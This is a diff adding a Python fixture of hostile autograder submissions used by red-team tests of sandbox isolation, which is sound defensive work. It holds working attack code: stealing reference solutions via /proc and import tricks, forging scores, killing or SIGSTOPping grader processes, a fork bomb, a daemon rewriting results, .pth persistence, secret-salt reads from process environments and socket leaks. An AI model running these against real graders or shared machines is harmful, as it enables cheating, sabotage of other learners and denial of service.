@@ -1,0 +1,418 @@
+"""Hostile submissions: each one a learner's file that tries one way to forge a score, harm a
+classmate, persist, leak or forge a measurement. Shared by the red-team tests.
+
+Every submission here earns its points only if its attack works: it either takes the answer from
+somewhere it must not (the references, a classmate's code) and returns it, or it returns a right
+answer only after its attack succeeded. So "no forged score" is "no points", and at the basic
+isolation level (no jail) the attacks marked ``contrast`` must earn their points or leave their
+mark, which shows that the protection, not a broken attack, makes the strict test pass.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+# Harm, persistence and processes are judged by their effects: the function does its damage and
+# returns a wrong answer.
+_WRONG = '''
+def coalesce_runs(runs, max_gap):
+    try:
+        attack()
+    except BaseException:
+        pass
+    return []
+'''
+
+# A correct coalesce_runs (problem 4.3), returned only after an attack worked.
+_CORRECT = '''
+def _right(runs, max_gap):
+    out = []
+    for off, ln in sorted(runs):
+        if out and off - (out[-1][0] + out[-1][1]) <= max_gap:
+            out[-1] = (out[-1][0], max(out[-1][0] + out[-1][1], off + ln) - out[-1][0])
+        else:
+            out.append((int(off), int(ln)))
+    return out
+
+
+def coalesce_runs(runs, max_gap):
+    try:
+        worked = attack()
+    except BaseException:
+        worked = False
+    return _right(runs, max_gap) if worked else []
+'''
+
+# A read_shard (problem 4.4) that reads the shard's bytes in a way the grader must count (or
+# refuse): ``grab(path, start, size)`` returns the tensor's bytes.
+_READER = '''
+import json as _json
+import numpy as _np
+
+_DT = {"F64": "float64", "F32": "float32", "F16": "float16", "I64": "int64", "I32": "int32", "I16": "int16",
+       "I8": "int8", "U64": "uint64", "U32": "uint32", "U16": "uint16", "U8": "uint8", "BOOL": "bool"}
+
+
+def read_shard(path, name, bounds):
+    with open(path, "rb", buffering=0) as f:
+        n = int.from_bytes(f.read(8), "little")
+        header = _json.loads(f.read(n))
+    info = header[name]
+    dtype = _np.dtype(_DT[info["dtype"]])
+    start, end = info["data_offsets"]
+    try:
+        raw = grab(path, 8 + n + start, end - start)
+    except BaseException:
+        raw = bytes(end - start)
+    full = _np.frombuffer(raw, dtype=dtype).reshape(info["shape"])
+    return _np.array(full[tuple(slice(a, b) for a, b in bounds)])
+'''
+
+
+EFFECTS = ("harm", "persist", "process")  # judged by what they do, not by points
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    kind: str  # score, harm, persist, leak, measure, process, channel
+    problem: str  # the problem id it defines
+    code: str  # defines attack() (4.3) or grab() (4.4), or the whole function
+    contrast: bool = True  # safe to run without the jail, where it must work
+    doc: str = ""
+
+    def source(self, constants: dict) -> str:
+        head = "".join(f"{k} = {v!r}\n" for k, v in sorted(constants.items()))
+        tail = ""
+        if self.problem == "4.3" and "def coalesce_runs" not in self.code:
+            tail = _WRONG if self.kind in EFFECTS else _CORRECT
+        tail = _READER if self.problem == "4.4" else tail
+        return head + "\nimport os, sys, signal, socket, glob, time\n" + self.code + "\n" + tail
+
+
+def _load_ref(path_expr: str) -> str:
+    """An attack that loads solutions/unit4.py from a path and returns the reference's answer."""
+    return f'''
+def coalesce_runs(runs, max_gap):
+    import importlib.util
+    try:
+        for path in {path_expr}:
+            if os.path.exists(path):
+                spec = importlib.util.spec_from_file_location("stolen", path)
+                module = importlib.util.module_from_spec(spec)
+                spec.loader.exec_module(module)
+                return module.coalesce_runs(runs, max_gap)
+    except BaseException:
+        pass
+    return []
+'''
+
+
+ATTACKS = [
+    # --- a score without solving ---------------------------------------------------------------
+    Attack("meta_path", "score", "4.3", '''
+def coalesce_runs(runs, max_gap):
+    sys.meta_path[:] = [f for f in sys.meta_path if "Hidden" not in type(f).__name__]
+    try:
+        from solutions.unit4 import coalesce_runs as ref
+        return ref(runs, max_gap)
+    except BaseException:
+        return []
+''', doc="re-enable the blocked import by editing sys.meta_path"),
+    Attack("module_file", "score", "4.3", _load_ref(
+        "[os.path.join(os.path.dirname(os.path.dirname(__import__('ckptlab').__file__)), 'solutions', 'unit4.py')]"),
+        doc="load solutions/ by path from a public module's __file__"),
+    Attack("module_paths", "score", "4.3", _load_ref(
+        "[os.path.join(d, 'solutions', 'unit4.py') for m in list(sys.modules.values()) "
+        "for f in [getattr(m, '__file__', None) or ''] if f "
+        "for d in [os.path.dirname(f), *[f.rsplit('/', k)[0] for k in range(2, f.count('/'))]]]"),
+        doc="load solutions/ by path from the folders of every loaded module and their parents"),
+    Attack("proc_cwd", "score", "4.3", _load_ref(
+        "[f'/proc/{p}/cwd/solutions/unit4.py' for p in [os.getppid()] + [e for e in os.listdir('/proc') if e.isdigit()]]"),
+        doc="load solutions/ through /proc/<pid>/cwd of the grading process"),
+    Attack("known_path", "score", "4.3", _load_ref("[ROOT + '/solutions/unit4.py']"),
+           doc="load solutions/ from where the course lives"),
+    Attack("hidden_source", "leak", "4.3", '''
+def attack():
+    return "def _coalesce_cases" in open(ROOT + "/autograder/hidden/unit4.py").read()
+''', doc="read the hidden tests' source"),
+    Attack("classmate_code", "score", "4.3", '''
+def coalesce_runs(runs, max_gap):
+    for pid in [e for e in os.listdir("/proc") if e.isdigit()]:
+        try:
+            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
+        except OSError:
+            continue
+        if b"grade-batch" in argv:
+            folder = argv[argv.index(b"grade-batch") + 1].decode()
+            for path in glob.glob(os.path.join(folder, "*.py")):
+                if LEARNER not in path:
+                    scope = {}
+                    try:
+                        exec(open(path).read(), scope)
+                        return scope["coalesce_runs"](runs, max_gap)
+                    except BaseException:
+                        continue
+    return []
+''', doc="find the submissions folder from grade-batch's command line and call a classmate's function"),
+    # --- a forged result, harm to classmates -----------------------------------------------------
+    Attack("forge_and_kill", "harm", "4.3", '''
+def attack():
+    import json
+    for pid in [e for e in os.listdir("/proc") if e.isdigit()]:
+        try:
+            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
+        except OSError:
+            continue
+        if b"grade-batch" in argv and b"--out" in argv:
+            out = argv[argv.index(b"--out") + 1].decode()
+            os.makedirs(os.path.join(out, "learners"), exist_ok=True)
+            with open(os.path.join(out, "learners", LEARNER + ".json"), "w") as f:
+                json.dump({"learner": LEARNER, "score": 999.0, "max_score": 999.0, "problems": []}, f)
+            os.kill(int(pid), signal.SIGKILL)
+            return True
+    return False
+''', contrast=False, doc="write its own full-marks result, then kill the batch so a re-run skips it"),
+    Attack("overwrite_classmate", "harm", "4.3", '''
+def attack():
+    for pid in [e for e in os.listdir("/proc") if e.isdigit()]:
+        try:
+            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
+        except OSError:
+            continue
+        if b"grade-batch" in argv:
+            folder = argv[argv.index(b"grade-batch") + 1].decode()
+            for path in glob.glob(os.path.join(folder, "*.py")):
+                if LEARNER not in path:
+                    open(path, "w").write("def coalesce_runs(runs, max_gap):\\n    return []\\n")
+            return True
+    return False
+''', contrast=False, doc="overwrite classmates' submissions before they are graded"),
+    Attack("daemon", "harm", "4.3", '''
+def attack():
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            deadline = time.time() + 120
+            while time.time() < deadline:
+                for path in glob.glob("/tmp/ckpt-worker-*/.result.json") + glob.glob(RESULTS + "/learners/*.json"):
+                    try:
+                        open(path, "w").write('{"forged": true}')
+                    except OSError:
+                        pass
+                time.sleep(0.05)
+        os._exit(0)
+    time.sleep(0.3)
+    return any(os.path.exists(p) for p in glob.glob("/tmp/ckpt-worker-*"))
+''', contrast=False, doc="a detached daemon (double fork + setsid) rewriting later results"),
+    Attack("stop_grader", "harm", "4.3", '''
+def attack():
+    hit = False
+    pids = [p for p in [os.getppid()] if p > 0]
+    try:
+        pids += [int(e) for e in os.listdir("/proc") if e.isdigit()]
+    except OSError:
+        pass
+    for pid in pids:
+        try:
+            argv = open(f"/proc/{pid}/cmdline", "rb").read()
+        except OSError:
+            argv = b""
+        if pid == os.getppid() or (b"autograder" in argv and pid != os.getpid()):
+            try:
+                os.kill(pid, signal.SIGSTOP)
+                hit = True
+            except OSError:
+                pass
+    return hit
+''', contrast=False, doc="SIGSTOP the grading processes so nobody is graded"),
+    Attack("kill_everything", "harm", "4.3", '''
+def attack():
+    try:
+        os.kill(-1, signal.SIGKILL)
+        return True
+    except OSError:
+        return False
+''', contrast=False, doc="kill every process the user may signal"),
+    Attack("kill_group", "harm", "4.3", '''
+def attack():
+    try:
+        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
+        return True
+    except OSError:
+        return False
+''', contrast=False, doc="kill the grader's process group"),
+    Attack("ptrace_grader", "leak", "4.3", '''
+def attack():
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    pids = [os.getppid()]
+    try:
+        pids += [int(e) for e in os.listdir("/proc") if e.isdigit()]
+    except OSError:
+        pass
+    for pid in pids:
+        if pid > 1 and pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
+            libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
+            return True
+    return False
+''', contrast=False, doc="ptrace-attach the grading process"),
+    # --- persistence -----------------------------------------------------------------------------
+    Attack("pth_file", "persist", "4.3", '''
+def attack():
+    open(SITE + "/ckpt_hostile_" + TOKEN + ".pth", "w").write("import os\\n")
+    return True
+''', contrast=False, doc="a .pth in site-packages, loaded by every later Python"),
+    Attack("patch_grader", "persist", "4.3", '''
+def attack():
+    open(ROOT + "/autograder/grade.py", "a").write("\\n# hostile\\n")
+    return True
+''', contrast=False, doc="append code to autograder/grade.py"),
+    Attack("patch_reference", "persist", "4.3", '''
+def attack():
+    open(ROOT + "/solutions/unit2.py", "a").write("\\n# hostile\\n")
+    return True
+''', contrast=False, doc="append code to a reference solution"),
+    # --- leaks -------------------------------------------------------------------------------------
+    Attack("salt_parent", "leak", "4.3", '''
+def attack():
+    return b"CKPT_COURSE_SALT=" in open(f"/proc/{os.getppid()}/environ", "rb").read()
+''', doc="read the salt from the grading process's environment"),
+    Attack("salt_scan", "leak", "4.3", '''
+def attack():
+    for e in os.listdir("/proc"):
+        try:
+            if e.isdigit() and b"CKPT_COURSE_SALT=" in open(f"/proc/{e}/environ", "rb").read():
+                return True
+        except OSError:
+            pass
+    return False
+''', doc="find the salt in any process's environment"),
+    Attack("salt_env", "leak", "4.3", '''
+def attack():
+    return "CKPT_COURSE_SALT" in os.environ
+''', contrast=False, doc="the salt in its own environment (scrubbed at every level)"),
+    Attack("tcp", "leak", "4.3", '''
+def attack():
+    s = socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2)
+    s.sendall(LEARNER.encode())
+    s.close()
+    return True
+''', doc="send data over TCP"),
+    Attack("udp", "leak", "4.3", '''
+def attack():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(LEARNER.encode(), ("127.0.0.1", UDP_PORT))
+    return True
+''', doc="send data over UDP"),
+    Attack("unix_socket", "leak", "4.3", '''
+def attack():
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.connect(UNIX_PATH)
+    s.sendall(LEARNER.encode())
+    s.close()
+    return True
+''', doc="send data to a unix socket on the machine"),
+    Attack("abstract_socket", "leak", "4.3", '''
+def attack():
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.connect(ABSTRACT)
+    s.sendall(LEARNER.encode())
+    s.close()
+    return True
+''', doc="send data to an abstract unix socket"),
+    Attack("write_tmp", "leak", "4.3", '''
+def attack():
+    open(TMP_MARK + "-" + LEARNER, "w").write("x")
+    return True
+''', doc="write outside its folder: /tmp"),
+    Attack("write_home", "leak", "4.3", '''
+def attack():
+    import pwd
+    open(os.path.join(pwd.getpwuid(os.getuid()).pw_dir, HOME_NAME + "-" + LEARNER), "w").write("x")
+    return True
+''', contrast=False, doc="write outside its folder: the user's home"),
+    Attack("write_progress", "leak", "4.3", '''
+def attack():
+    open(os.path.join(PROGRESS, "progress.jsonl"), "a").write('{"forged": true}\\n')
+    return True
+''', doc="write into the progress store"),
+    Attack("read_results", "leak", "4.3", '''
+def attack():
+    os.listdir(RESULTS)
+    return True
+''', doc="look into the instructor's results"),
+    # --- processes -------------------------------------------------------------------------------
+    Attack("leave_process", "process", "4.3", '''
+def attack():
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            time.sleep(600)
+        os._exit(0)
+    return True
+''', doc="leave a detached process behind"),
+    Attack("fork_bomb", "process", "4.3", '''
+def attack():
+    kids = []
+    for _ in range(5000):
+        pid = os.fork()
+        if pid == 0:
+            time.sleep(600)
+            os._exit(0)
+        kids.append(pid)
+    return True
+''', contrast=False, doc="a fork bomb"),
+    # --- forged measurements (4.4: bytes read) -----------------------------------------------------
+    Attack("whole_file_read", "measure", "4.4", '''
+def grab(path, start, size):
+    import json, builtins
+    json.dump = lambda *a, **k: None  # the old worker counted reads in this process and wrote them with json
+    return open(path, "rb").read()[start:start + size]
+''', contrast=False, doc="read the whole file, and tamper with the worker's own report of the count"),
+    Attack("ctypes_mmap", "measure", "4.4", '''
+def grab(path, start, size):
+    import ctypes, mmap as _mmap
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.mmap.restype = ctypes.c_void_p
+    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+    fd = os.open(path, os.O_RDONLY)
+    length = os.fstat(fd).st_size
+    addr = libc.mmap(None, length, 1, 2, fd, 0)  # PROT_READ, MAP_PRIVATE
+    if addr in (None, ctypes.c_void_p(-1).value):
+        raise OSError(ctypes.get_errno(), "mmap refused")
+    return ctypes.string_at(addr + start, size)
+''', doc="map the whole file with libc's mmap (the kernel does not count mapped bytes as read)"),
+    Attack("grandchild_read", "measure", "4.4", '''
+def grab(path, start, size):
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.mmap.restype = ctypes.c_void_p
+    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+    shared = libc.mmap(None, size + 1, 3, 0x01 | 0x20, -1, 0)  # anonymous, shared: no read() to count
+    if os.fork() == 0:
+        if os.fork() == 0:  # a grandchild, orphaned at once: reparented away from the worker's tree
+            with open(path, "rb") as f:
+                f.seek(start)
+                ctypes.memmove(shared, f.read(size), size)
+            ctypes.memset(shared + size, 1, 1)
+            os._exit(0)
+        os._exit(0)
+    os.wait()
+    while ctypes.string_at(shared + size, 1) != b"\\x01":
+        time.sleep(0.001)
+    return ctypes.string_at(shared, size)
+''', doc="read in an orphaned grandchild and hand the bytes over in shared memory"),
+    Attack("preload", "measure", "4.4", '''
+_CACHE = {}
+for _name in os.listdir("."):
+    if _name.endswith(".safetensors"):
+        _CACHE[_name] = open(_name, "rb").read()
+
+
+def grab(path, start, size):
+    return _CACHE[os.path.basename(path)][start:start + size]
+''', contrast=False, doc="read every file at import time, before the reads are counted"),
+]
+
+assert len({a.name for a in ATTACKS}) == len(ATTACKS)
